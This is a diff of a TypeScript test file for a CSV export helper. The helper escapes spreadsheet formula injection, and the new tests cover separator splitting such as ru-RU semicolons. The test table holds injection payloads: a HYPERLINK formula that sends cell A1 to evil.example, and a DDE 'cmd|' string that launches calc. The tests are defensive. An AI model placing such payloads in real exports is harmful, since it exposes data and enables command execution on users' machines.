@@ -2,14 +2,16 @@
 // stream that reads the next chunk only when the consumer wants more.
 import { Readable, Writable } from 'node:stream';
 import { csvCell, csvChunks, csvLine, zonedTime } from '../../src/services/common/csv';
+import { LEDGER_COLUMNS } from '../../src/services/clients/export-ledger';
+import { cellOf } from '../../src/services/payments/export-payments';
 
 describe('CSV cells', () => {
   it.each([
     ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"'],
-    ['+1+cmd|\' /C calc\'!A0', "'+1+cmd|' /C calc'!A0"],
+    ['+1+cmd|\' /C calc\'!A0', "\"'+1+cmd|' /C calc'!A0\""],
     ['-2+3', "'-2+3"],
     ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
-    ['\tTAB', "'\tTAB"],
+    ['\tTAB', "\"'\tTAB\""],
     ['\r=1', '"\'\r=1"'],
     ['-100.00', '-100.00'], // a plain number stays a number
     ['500.00', '500.00'],
@@ -18,12 +20,29 @@ describe('CSV cells', () => {
     ['He said "hi"', '"He said ""hi"""'],
     ['Пополнение баланса', 'Пополнение баланса'],
     ['', ''],
+    // separators a spreadsheet may split on instead of the comma (ru-RU Excel: `;`): quoted, so the cell stays whole
+    ['a;=1+1;b', '"a;=1+1;b"'],
+    ['a\t=1+1', '"a\t=1+1"'],
+    ['a|=1+1', '"a|=1+1"'],
+    ['=1+1;b', '"\'=1+1;b"'], // the cell's start is still neutralised
+    ['desk; =cmd', '"desk; =cmd"'], // tags as the export joins them
+    ['1;2', '"1;2"'],
   ])('%j → %s', (value, cell) => {
     expect(csvCell(value)).toBe(cell);
   });
 
   it('a line is cells joined by commas, ended by CRLF; null is an empty cell', () => {
     expect(csvLine(['a', null, '=1', undefined])).toBe("a,,'=1,\r\n");
+  });
+
+  it('tags (joined by "; ") and a ledger entry\'s reason are each one quoted cell', () => {
+    const time = zonedTime('UTC');
+    expect(csvCell(cellOf('list', ['desk', '=cmd'], 'RUB', time))).toBe('"desk; =cmd"');
+    const reason = LEDGER_COLUMNS.findIndex((c) => c.header === 'reason');
+    expect(reason).toBeGreaterThan(0);
+    const line = csvLine(LEDGER_COLUMNS.map((c, i) => (i === reason ? cellOf(c.kind, 'desk;=1+1;cash|x', 'RUB', time) : null)));
+    expect(line).toBe(`${','.repeat(reason)}"desk;=1+1;cash|x"${','.repeat(LEDGER_COLUMNS.length - reason - 1)}\r\n`);
+    expect(csvLine(LEDGER_COLUMNS.map((c, i) => (i === reason ? cellOf(c.kind, '=1+1;x', 'RUB', time) : null)))).toContain('"\'=1+1;x"');
   });
 });
 
